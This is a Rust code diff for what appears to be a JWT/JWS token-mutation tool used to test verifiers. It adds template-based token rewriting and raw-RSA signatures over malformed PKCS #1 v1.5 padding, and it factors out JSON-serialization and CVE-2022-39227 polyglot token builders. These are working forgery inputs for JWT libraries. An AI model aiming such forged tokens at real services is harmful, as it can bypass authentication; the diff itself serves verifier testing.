@@ -368,6 +368,24 @@ pub enum Mutation {
     Polyglot {
         payload: Map<String, Value>,
     },
+    /// The whole token replaced by `text`, where `{protected}`, `{payload}` and `{signature}`
+    /// stand for the genuine segments, `{payload:2:-1}` for a slice of one (character offsets,
+    /// negative from the end) and `{~payload:-1}` for one character changed (the top bit of its
+    /// sextet flipped): a peer corpus's shape replayed on the genuine token.
+    Template {
+        text: String,
+    },
+    /// The signature segment replaced by the raw RSA signature, with `key`, of the encoded message
+    /// `prefix` ‖ SHA-256(signing input) ‖ `suffix` (hex; without `digest`, `prefix` alone): a
+    /// peer corpus's malformed PKCS #1 v1.5 padding (RFC 8017 §8.2.2, §9.2) under the pinned key.
+    RsaEncodedMessage {
+        key: KeyName,
+        prefix: String,
+        #[serde(default)]
+        suffix: String,
+        #[serde(default = "default_true")]
+        digest: bool,
+    },
 }
 
 impl Mutation {
@@ -401,6 +419,8 @@ impl Mutation {
                 | OversizeSegment { .. }
                 | JsonSerialization { .. }
                 | Polyglot { .. }
+                | Template { .. }
+                | RsaEncodedMessage { .. }
         )
     }
 
@@ -414,7 +434,8 @@ impl Mutation {
             | Jku { key, .. }
             | X5u { key, .. }
             | X5c { key, .. }
-            | SignatureModulus { key } => vec![key],
+            | SignatureModulus { key }
+            | RsaEncodedMessage { key, .. } => vec![key],
             X5t { of } | X5tS256 { of } => vec![of],
             _ => vec![],
         }
@@ -790,45 +811,149 @@ fn apply_wire(m: &Mutation, token: String, ctx: &Context<'_>) -> Result<String, 
         OversizeSegment { segment, bytes } => {
             segment_mut(&mut segs, *segment)?.push_str(&"A".repeat(*bytes as usize))
         }
-        JsonSerialization { form } => {
-            let [h, p, s] = three(&segs)?;
-            let v = match form {
-                JsonForm::Flattened => json!({"protected": h, "payload": p, "signature": s}),
-                JsonForm::FlattenedUnprotectedAlg => {
-                    let mut header = object(&decoded(&segs, Segment::Header)?, Part::Header)?;
-                    let alg = header.shift_remove("alg").unwrap_or(json!("RS256"));
-                    json!({
-                        "protected": b64u(Value::Object(header).to_string().as_bytes()),
-                        "header": {"alg": alg},
-                        "payload": p,
-                        "signature": s,
-                    })
-                }
-                JsonForm::General => {
-                    json!({"payload": p, "signatures": [{"protected": h, "signature": s}]})
-                }
-                JsonForm::GeneralEmpty => json!({"payload": p, "signatures": []}),
-                JsonForm::GeneralTwo => json!({"payload": p, "signatures": [
-                    {"protected": h, "signature": s},
-                    {"protected": h, "signature": b64u(&[0; 256])},
-                ]}),
-            };
-            return Ok(v.to_string());
+        JsonSerialization { form } => return jws_json(&token, *form),
+        Polyglot { payload } => return polyglot(&token, payload),
+        Template { text } => {
+            let parts: Vec<&str> = segs.iter().map(String::as_str).collect();
+            return render_template(text, &["protected", "payload", "signature"], &parts);
         }
-        Polyglot { payload } => {
-            let [h, p, s] = three(&segs)?;
-            let mut claims = object(&decoded(&segs, Segment::Payload)?, Part::Payload)?;
-            for (k, v) in payload {
-                claims.insert(k.clone(), v.clone());
+        RsaEncodedMessage {
+            key,
+            prefix,
+            suffix,
+            digest,
+        } => {
+            let [h, p, _] = three(&segs)?;
+            let hex = |s: &str| hex::decode(s).map_err(|_| ForgeError(format!("`{s}` is not hex")));
+            let mut em = hex(prefix)?;
+            if *digest {
+                use sha2::Digest as _;
+                em.extend(sha2::Sha256::digest(format!("{h}.{p}").as_bytes()));
             }
-            let fp = b64u(Value::Object(claims).to_string().as_bytes());
-            return Ok(format!(
-                r#"{{"  {h}.{fp}.":"","protected":"{h}","payload":"{p}","signature":"{s}"}}"#
-            ));
+            em.extend(hex(suffix)?);
+            let raw = raw_rsa_private(ctx.pki, key.as_str(), &em)?;
+            *segment_mut(&mut segs, Segment::Signature)? = b64u(&raw);
         }
         _ => return err("not a mutation of the assembled token"),
     }
     Ok(segs.join("."))
+}
+
+/// A compact JWS re-serialized as a JWS JSON serialization (RFC 7515 §7.2).
+pub fn jws_json(token: &str, form: JsonForm) -> Result<String, ForgeError> {
+    let segs = segments(token);
+    let [h, p, s] = three(&segs)?;
+    let v = match form {
+        JsonForm::Flattened => json!({"protected": h, "payload": p, "signature": s}),
+        JsonForm::FlattenedUnprotectedAlg => {
+            let mut header = object(&decoded(&segs, Segment::Header)?, Part::Header)?;
+            let alg = header.shift_remove("alg").unwrap_or(json!("RS256"));
+            json!({
+                "protected": b64u(Value::Object(header).to_string().as_bytes()),
+                "header": {"alg": alg},
+                "payload": p,
+                "signature": s,
+            })
+        }
+        JsonForm::General => {
+            json!({"payload": p, "signatures": [{"protected": h, "signature": s}]})
+        }
+        JsonForm::GeneralEmpty => json!({"payload": p, "signatures": []}),
+        JsonForm::GeneralTwo => json!({"payload": p, "signatures": [
+            {"protected": h, "signature": s},
+            {"protected": h, "signature": b64u(&[0; 256])},
+        ]}),
+    };
+    Ok(v.to_string())
+}
+
+/// The python-jwt polyglot (CVE-2022-39227) of a compact JWS: a JSON object whose first member
+/// name is the token with `payload` members merged into its payload, then the genuine parts.
+pub fn polyglot(token: &str, payload: &Map<String, Value>) -> Result<String, ForgeError> {
+    let segs = segments(token);
+    let [h, p, s] = three(&segs)?;
+    let mut claims = object(&decoded(&segs, Segment::Payload)?, Part::Payload)?;
+    for (k, v) in payload {
+        claims.insert(k.clone(), v.clone());
+    }
+    let fp = b64u(Value::Object(claims).to_string().as_bytes());
+    Ok(format!(
+        r#"{{"  {h}.{fp}.":"","protected":"{h}","payload":"{p}","signature":"{s}"}}"#
+    ))
+}
+
+/// `m`^d mod n with the private key `key`, left-padded to the modulus length (a raw RSA
+/// operation: no padding is added or checked).
+fn raw_rsa_private(pki: &Pki, key: &str, m: &[u8]) -> Result<Vec<u8>, ForgeError> {
+    use num_bigint::BigUint;
+    let (n, d) = crate::pki::rsa_private_components(&credential(pki, key)?.key_der)
+        .map_err(|e| ForgeError(format!("`{key}` is not an RSA private key: {e}")))?;
+    let n = BigUint::from_bytes_be(&n);
+    let s = BigUint::from_bytes_be(m).modpow(&BigUint::from_bytes_be(&d), &n);
+    let k = n.bits().div_ceil(8) as usize;
+    let mut out = s.to_bytes_be();
+    while out.len() < k {
+        out.insert(0, 0);
+    }
+    Ok(out)
+}
+
+/// Replace `{name}` and `{name:start:end}` (character offsets; negative from the end; either may
+/// be empty) by the segment of that name. Other braces are text (JSON serializations).
+pub fn render_template(text: &str, names: &[&str], segs: &[&str]) -> Result<String, ForgeError> {
+    let mut out = String::with_capacity(text.len() + 1024);
+    let mut rest = text;
+    while let Some(i) = rest.find('{') {
+        out.push_str(&rest[..i]);
+        let after = &rest[i + 1..];
+        let close = after.find('}');
+        let spec = close.map(|c| &after[..c]);
+        let body = spec.unwrap_or_default();
+        let flip = body.starts_with('~');
+        let mut fields = body.trim_start_matches('~').splitn(3, ':');
+        let name = fields.next().unwrap_or_default();
+        match (close, names.iter().position(|n| *n == name)) {
+            (Some(c), Some(idx)) => {
+                let seg = segs.get(idx).copied().ok_or_else(|| {
+                    ForgeError(format!("the token has no {name} segment for the template"))
+                })?;
+                let len = seg.len() as i64;
+                let bound = |f: Option<&str>, default: i64| -> Result<usize, ForgeError> {
+                    let v = match f.filter(|s| !s.is_empty()) {
+                        None => default,
+                        Some(s) => s.parse::<i64>().map_err(|_| {
+                            ForgeError(format!(
+                                "`{{{}}}`: `{s}` is not an offset",
+                                spec.unwrap_or_default()
+                            ))
+                        })?,
+                    };
+                    let v = if v < 0 { len + v } else { v };
+                    Ok(v.clamp(0, len) as usize)
+                };
+                if flip {
+                    // `{~name:i}`: the character at i with the top bit of its sextet flipped, a
+                    // data bit wherever it sits, so the decoded bytes always change.
+                    let i = bound(fields.next(), 0)?;
+                    const ALPHABET: &[u8] =
+                        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
+                    let c = seg.as_bytes().get(i).copied().unwrap_or(b'A');
+                    let v = ALPHABET.iter().position(|&x| x == c).unwrap_or(0);
+                    out.push(ALPHABET[v ^ 32] as char);
+                } else {
+                    let (a, b) = (bound(fields.next(), 0)?, bound(fields.next(), len)?);
+                    out.push_str(seg.get(a..b.max(a)).unwrap_or_default());
+                }
+                rest = &after[c + 1..];
+            }
+            _ => {
+                out.push('{');
+                rest = after;
+            }
+        }
+    }
+    out.push_str(rest);
+    Ok(out)
 }
 
 fn three(segs: &[String]) -> Result<[&str; 3], ForgeError> {
